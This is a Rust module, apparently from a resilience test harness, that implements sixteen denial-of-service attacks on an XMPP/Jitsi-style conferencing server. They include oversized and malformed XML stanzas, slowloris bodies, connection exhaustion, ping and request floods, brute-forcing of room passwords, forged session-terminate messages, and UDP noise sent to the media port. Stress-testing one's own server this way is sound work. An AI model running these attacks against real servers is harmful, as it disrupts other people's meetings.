//! The attacks, each of which once ended or stalled the meetings of others.

use std::future::Future;
use std::pin::Pin;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::UdpSocket;
use tokio::time::{sleep, timeout};

use crate::attacker::{Aim, Guest};
use crate::server::DOMAIN;

type Running = Pin<Box<dyn Future<Output = String> + Send>>;

pub struct Attack {
    pub name: &'static str,
    /// Goes on until the given time, and says what the strangers saw.
    pub run: fn(Aim, Instant) -> Running,
}

macro_rules! attacks {
    ($($name:ident),* $(,)?) => {
        &[$(Attack { name: stringify!($name), run: |aim, until| Box::pin($name(aim, until)) }),*]
    };
}

pub const ATTACKS: &[Attack] = attacks![
    names_no_parser_takes,
    too_many_attributes,
    a_namespace_for_each,
    bodies_before_login,
    bursts_of_pings,
    bursts_of_requests,
    answers_that_never_come,
    idle_connections,
    slow_bodies,
    idle_http2,
    guessed_passwords,
    knocks,
    complaints,
    in_and_out,
    noise_on_the_media_port,
    noise_on_the_xmpp_port,
];

const FOCUS: &str = "focus.meet.internal";

/// Repeats what a guest does, each time as somebody else, until the time is over; says how often it was done.
async fn again<F>(aim: &Aim, until: Instant, deed: impl Fn(Aim) -> F) -> u32
where
    F: Future<Output = ()>,
{
    let mut times = 0;
    while Instant::now() < until || times == 0 {
        let limit = until.max(Instant::now() + Duration::from_secs(5));
        let _ = tokio::time::timeout_at(limit.into(), deed(aim.elsewhere())).await;
        times += 1;
        sleep(Duration::from_millis(50)).await;
    }
    times
}

/// A guest in a running meeting, who says something to everybody and to the focus.
async fn in_the_meeting(aim: Aim, texts: Vec<String>) {
    let Some(mut guest) = aim.login("alpha").await else {
        return;
    };
    let _ = guest.request("alpha").await;
    if guest.enter("alpha").await.is_some() {
        guest.pour(texts).await;
        // What the others make of it comes after the server has taken it.
        let _ = timeout(Duration::from_millis(500), guest.until("never")).await;
    }
}

fn to_focus(id: usize, payload: &str) -> String {
    format!("<iq xmlns='jabber:client' type='set' id='i{id}' to='{FOCUS}'>{payload}</iq>")
}

fn to_all(payload: &str) -> String {
    format!(
        "<message xmlns='jabber:client' type='groupchat' to='alpha@conference.{DOMAIN}'>{payload}</message>"
    )
}

async fn names_no_parser_takes(aim: Aim, until: Instant) -> String {
    let texts = || {
        let mut texts = Vec::new();
        for payload in [
            "<xml:a/>",
            "<body>x</body><xml:a/>",
            "<a xmlns='http://www.w3.org/XML/1998/namespace'/>",
            "<a xmlns='http://www.w3.org/2000/xmlns/'/>",
            "<p:a xmlns:p='urn:p' p:b='1' xml:lang='en' xml:base='x'/>",
        ] {
            texts.extend([to_focus(texts.len(), payload), to_all(payload)]);
        }
        texts
    };
    let times = again(&aim, until, |aim| async move {
        // Each may cost its sender the stream, so each has a guest of its own.
        for text in texts() {
            in_the_meeting(aim.elsewhere(), vec![text]).await;
        }
    })
    .await;
    format!("{times} rounds")
}

async fn too_many_attributes(aim: Aim, until: Instant) -> String {
    let attributes: String = (0..125).map(|n| format!(" a{n}='v'")).collect();
    let texts = vec![
        format!(
            "<iq xmlns='jabber:client' type='set' id='x' to='{FOCUS}'{attributes}><conference xmlns='http://jitsi.org/protocol/focus' room='wide@conference.{DOMAIN}'/></iq>"
        ),
        to_focus(
            1,
            &format!(
                "<conference xmlns='http://jitsi.org/protocol/focus' room='wide@conference.{DOMAIN}'{attributes}/>"
            ),
        ),
        to_all(&format!("<body{attributes}>x</body>")),
    ];
    let times = again(&aim, until, |aim| {
        let texts = texts.clone();
        async move {
            for text in texts {
                in_the_meeting(aim.elsewhere(), vec![text]).await;
            }
        }
    })
    .await;
    format!("{times} rounds")
}

async fn a_namespace_for_each(aim: Aim, until: Instant) -> String {
    let namespace = "n".repeat(20_000);
    let children = "<c/>".repeat(700);
    let text = to_all(&format!("<x xmlns='{namespace}'>{children}</x>"));
    let times = again(&aim, until, |aim| in_the_meeting(aim, vec![text.clone()])).await;
    format!("{times} messages of {} KB", text.len() / 1000)
}

/// Sends a request and reads the first bytes of an answer.
async fn post(aim: &Aim, path: &str, body: &str) -> Option<String> {
    let mut stream = aim.tls(b"http/1.1").await?;
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: {DOMAIN}\r\nContent-Type: text/xml; charset=utf-8\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    stream.write_all(head.as_bytes()).await.ok()?;
    stream.write_all(body.as_bytes()).await.ok()?;
    let mut answer = [0; 1024];
    let count = timeout(Duration::from_secs(10), stream.read(&mut answer))
        .await
        .ok()?
        .ok()?;
    Some(String::from_utf8_lossy(&answer[..count]).into_owned())
}

async fn bodies_before_login(aim: Aim, until: Instant) -> String {
    let namespace = "n".repeat(20_000);
    let wide = format!(
        "<body xmlns='http://jabber.org/protocol/httpbind' rid='1' to='{DOMAIN}' xmpp:version='1.0' xmlns:xmpp='urn:xmpp:xbosh'>\
         <x xmlns='{namespace}'>{}</x></body>",
        "<c/>".repeat(54_000)
    );
    let deep = format!(
        "<body xmlns='http://jabber.org/protocol/httpbind' rid='1'>{}",
        "<a>".repeat(80_000)
    );
    let times = again(&aim, until, |aim| {
        let (wide, deep) = (wide.clone(), deep.clone());
        async move {
            post(&aim, "/http-bind", &wide).await;
            post(&aim, "/http-bind", &deep).await;
            post(&aim, "/conference-request/v1", &"[".repeat(200_000)).await;
        }
    })
    .await;
    format!("{times} rounds of three bodies")
}

/// Several guests who say many things at once.
async fn crowd(
    aim: &Aim,
    guests: usize,
    room: &str,
    texts: impl Fn(usize) -> Vec<String>,
) -> usize {
    let mut crowd = tokio::task::JoinSet::new();
    for n in 0..guests {
        let (aim, room, texts) = (aim.elsewhere(), room.to_owned(), texts(n));
        crowd.spawn(async move {
            let Some(mut guest) = aim.login(&room).await else {
                return 0;
            };
            guest.pour(texts).await
        });
    }
    crowd.join_all().await.into_iter().sum()
}

async fn bursts_of_pings(aim: Aim, until: Instant) -> String {
    let mut taken = 0;
    while taken == 0 || Instant::now() < until {
        let ping = |n| to_focus(n, "<ping xmlns='urn:xmpp:ping'/>").replace("'set'", "'get'");
        taken += crowd(&aim, 8, "bursts", |_| (0..400).map(ping).collect()).await;
    }
    format!("{taken} pings")
}

async fn bursts_of_requests(aim: Aim, until: Instant) -> String {
    let mut taken = 0;
    while taken == 0 || Instant::now() < until {
        let request = |guest: usize, n: usize| {
            to_focus(
                n,
                &format!(
                    "<conference xmlns='http://jitsi.org/protocol/focus' room='burst{guest}x{n}@conference.{DOMAIN}' machine-uid='u{n}'/>"
                ),
            )
        };
        taken += crowd(&aim, 6, "bursts", |guest| {
            (0..400).map(|n| request(guest, n)).collect()
        })
        .await;
    }
    format!("{taken} requests")
}

async fn answers_that_never_come(aim: Aim, until: Instant) -> String {
    let id = "i".repeat(200_000);
    let mut taken = 0;
    while taken == 0 || Instant::now() < until {
        let mute = aim.elsewhere().login("mute").await;
        let to = mute
            .as_ref()
            .map_or(FOCUS.to_owned(), |guest| guest.jid.clone());
        taken += crowd(&aim, 4, "mute", |_| {
            let ask = |n: usize| {
                let to = if n.is_multiple_of(2) { FOCUS } else { &to };
                format!("<iq xmlns='jabber:client' type='get' id='{n}{id}' to='{to}'><odd xmlns='urn:odd'/></iq>")
            };
            (0..40).map(ask).collect()
        })
        .await;
    }
    format!("{taken} requests of 200 KB")
}

async fn idle_connections(aim: Aim, until: Instant) -> String {
    let mut open = 0;
    let mut tried = 0;
    while tried == 0 || Instant::now() < until {
        let here = aim.elsewhere();
        let mut held = Vec::new();
        for n in 0..1_200 {
            let port = if n % 3 == 0 { here.xmpp } else { here.https };
            match timeout(Duration::from_secs(2), here.tcp(port)).await {
                Ok(Some(stream)) => held.push(stream),
                _ => break,
            }
        }
        tried += 1;
        open = held.len();
        // Connections that are refused are closed by the server at once; the others are held for a while.
        let rest = until.saturating_duration_since(Instant::now());
        sleep(rest.clamp(Duration::from_millis(500), Duration::from_secs(20))).await;
    }
    format!("{open} connections of one address, {tried} times")
}

async fn slow_bodies(aim: Aim, until: Instant) -> String {
    let mut crowd = tokio::task::JoinSet::new();
    let here = aim.elsewhere();
    for n in 0..200 {
        // Half from one address, half from everywhere.
        let aim = if n % 2 == 0 {
            here.clone()
        } else {
            aim.elsewhere()
        };
        crowd.spawn(async move {
            let began = Instant::now();
            let Some(mut stream) = aim.tls(b"http/1.1").await else {
                return began.elapsed();
            };
            let head = format!(
                "POST /http-bind HTTP/1.1\r\nHost: {DOMAIN}\r\nContent-Length: 249000\r\n\r\n<body "
            );
            let _ = stream.write_all(head.as_bytes()).await;
            let mut byte = [0];
            while Instant::now() < until {
                tokio::select! {
                    // An answer, or the end.
                    _ = stream.read(&mut byte) => break,
                    () = sleep(Duration::from_millis(700)) => {
                        if stream.write_all(b" ").await.is_err() || stream.flush().await.is_err() {
                            break;
                        }
                    }
                }
            }
            began.elapsed()
        });
    }
    let longest = crowd.join_all().await.into_iter().max().unwrap_or_default();
    format!("the longest held {:.1} s", longest.as_secs_f64())
}

async fn idle_http2(aim: Aim, until: Instant) -> String {
    const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
    let mut held = Vec::new();
    let here = aim.elsewhere();
    while Instant::now() < until || held.is_empty() {
        let aim = if held.len() % 2 == 0 {
            here.clone()
        } else {
            aim.elsewhere()
        };
        match timeout(Duration::from_secs(2), aim.tls(b"h2")).await {
            Ok(Some(mut stream)) => {
                let _ = stream.write_all(PREFACE).await;
                held.push(stream);
            }
            _ => sleep(Duration::from_millis(100)).await,
        }
        if held.len() >= 1_000 {
            let rest = until.saturating_duration_since(Instant::now());
            sleep(rest).await;
            break;
        }
    }
    format!("{} connections", held.len())
}

/// A room of the strangers' own with a password, and others who guess it.
async fn guessed_passwords(aim: Aim, until: Instant) -> String {
    let room = format!("locked@conference.{DOMAIN}");
    let mut tries = 0;
    while Instant::now() < until || tries == 0 {
        let guess = |n: usize| {
            format!(
                "<presence xmlns='jabber:client' to='{room}/g{n}'><x xmlns='http://jabber.org/protocol/muc'><password>{n}</password></x></presence>"
            )
        };
        let mut owner = aim.elsewhere().login("locked").await;
        if let Some(owner) = &mut owner {
            let _ = owner.request("locked").await;
            let _ = owner.enter("locked").await;
            lock(owner, &room).await;
        }
        tries += crowd(&aim, 4, "locked", |_| (0..200).map(guess).collect()).await;
    }
    format!("{tries} guesses")
}

async fn lock(owner: &mut Guest, room: &str) {
    let form = format!(
        "<iq xmlns='jabber:client' type='set' id='lock' to='{room}'><query xmlns='http://jabber.org/protocol/muc#owner'>\
         <x xmlns='jabber:x:data' type='submit'><field var='FORM_TYPE'><value>http://jabber.org/protocol/muc#roomconfig</value></field>\
         <field var='muc#roomconfig_roomsecret'><value>secret</value></field></x></query></iq>"
    );
    let _ = owner.say(&form).await;
    let _ = timeout(Duration::from_secs(2), owner.until("id=\"lock\"")).await;
}

async fn knocks(aim: Aim, until: Instant) -> String {
    let big = "k".repeat(180_000);
    let texts: Vec<String> = (0..20)
        .map(|n| {
            format!(
                "<presence xmlns='jabber:client' to='alpha@lobby.{DOMAIN}/knock{n}'><x xmlns='http://jabber.org/protocol/muc'/>\
                 <nick xmlns='http://jabber.org/protocol/nick'>{big}</nick><odd xmlns='urn:odd'/></presence>"
            )
        })
        .collect();
    let times = again(&aim, until, |aim| {
        let texts = texts.clone();
        async move {
            if let Some(mut guest) = aim.login("alpha").await {
                guest.pour(texts).await;
            }
        }
    })
    .await;
    format!("{times} rounds of twenty knocks")
}

/// A participant who complains of the bridge, again and again.
async fn complaints(aim: Aim, until: Instant) -> String {
    let times = again(&aim, until, |aim| async move {
        let Some(mut guest) = aim.login("alpha").await else {
            return;
        };
        let _ = guest.request("alpha").await;
        if guest.enter("alpha").await.is_none() {
            return;
        }
        for n in 0..20 {
            let invited = timeout(Duration::from_secs(3), guest.until("session-initiate")).await;
            let Ok(Some(offer)) = invited else { return };
            let part = |name: &str| {
                let value = offer.split(&format!(" {name}=\"")).nth(1)?;
                value.split('"').next().map(str::to_owned)
            };
            let (Some(id), Some(sid), Some(from)) = (part("id"), part("sid"), part("from")) else {
                return;
            };
            let bridge = offer.split("<bridge-session").nth(1).and_then(|b| b.split(" id=\"").nth(1)?.split('"').next());
            let session = bridge.unwrap_or_default();
            let texts = [
                format!("<iq xmlns='jabber:client' type='result' id='{id}' to='{from}'/>"),
                format!(
                    "<iq xmlns='jabber:client' type='set' id='f{n}' to='{from}'><jingle xmlns='urn:xmpp:jingle:1' action='session-info' sid='{sid}'>\
                     <ice-state xmlns='http://jitsi.org/protocol/focus'>failed</ice-state>\
                     <bridge-session xmlns='http://jitsi.org/protocol/focus' id='{session}'/></jingle></iq>"
                ),
                format!(
                    "<iq xmlns='jabber:client' type='set' id='t{n}' to='{from}'><jingle xmlns='urn:xmpp:jingle:1' action='session-terminate' sid='{sid}'>\
                     <reason><connectivity-error/></reason>\
                     <bridge-session xmlns='http://jitsi.org/protocol/focus' id='{session}' restart='true'/></jingle></iq>"
                ),
            ];
            for text in texts {
                if guest.say(&text).await.is_none() {
                    return;
                }
            }
        }
    })
    .await;
    format!("{times} complainers")
}

async fn in_and_out(aim: Aim, until: Instant) -> String {
    let times = again(&aim, until, |aim| async move {
        let Some(mut guest) = aim.login("beta").await else {
            return;
        };
        let _ = guest.request("beta").await;
        for n in 0..50 {
            let to = format!("beta@conference.{DOMAIN}/x{n}");
            let texts = [
                format!("<presence xmlns='jabber:client' to='{to}'><x xmlns='http://jabber.org/protocol/muc'/></presence>"),
                format!("<presence xmlns='jabber:client' to='{to}' type='unavailable'/>"),
            ];
            if guest.pour(texts).await < 2 {
                return;
            }
        }
    })
    .await;
    format!("{times} rounds of fifty")
}

async fn noise_on_the_media_port(aim: Aim, until: Instant) -> String {
    let mut sent = 0u64;
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    while Instant::now() < until || sent == 0 {
        let here = aim.elsewhere();
        let Ok(socket) = UdpSocket::bind((here.source(), 0)).await else {
            break;
        };
        for n in 0..200usize {
            let mut datagram: Vec<u8> = (0..(n * 7) % 1_300 + 1)
                .map(|_| {
                    state ^= state << 13;
                    state ^= state >> 7;
                    state ^= state << 17;
                    state.to_be_bytes()[0]
                })
                .collect();
            // STUN, DTLS, RTP and RTCP by their first bytes, and nothing at all.
            datagram[0] = [0, 22, 128, 129, 255][n % 5];
            if n % 5 == 0 {
                datagram.resize(datagram.len().max(20), 0);
                datagram[1] = 1;
                datagram[4..8].copy_from_slice(&0x2112_a442u32.to_be_bytes());
            }
            let _ = socket.send_to(&datagram, ("127.0.0.1", here.udp)).await;
            sent += 1;
        }
        sleep(Duration::from_millis(5)).await;
    }
    format!("{sent} datagrams")
}

async fn noise_on_the_xmpp_port(aim: Aim, until: Instant) -> String {
    let garbage = [
        "x".repeat(300_000),
        format!(
            "<stream:stream xmlns:stream='http://etherx.jabber.org/streams' {}",
            "a='1' ".repeat(40_000)
        ),
        format!(
            "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b '{}'>]>",
            "c".repeat(100_000)
        ),
    ];
    let mut times = 0;
    while Instant::now() < until || times == 0 {
        let here = aim.elsewhere();
        for text in &garbage {
            if let Some(mut stream) = here.tcp(here.xmpp).await {
                let _ = timeout(Duration::from_secs(2), stream.write_all(text.as_bytes())).await;
                let mut buffer = [0; 1024];
                let _ = timeout(Duration::from_millis(200), stream.read(&mut buffer)).await;
            }
        }
        times += 1;
    }
    format!("{times} rounds")
}
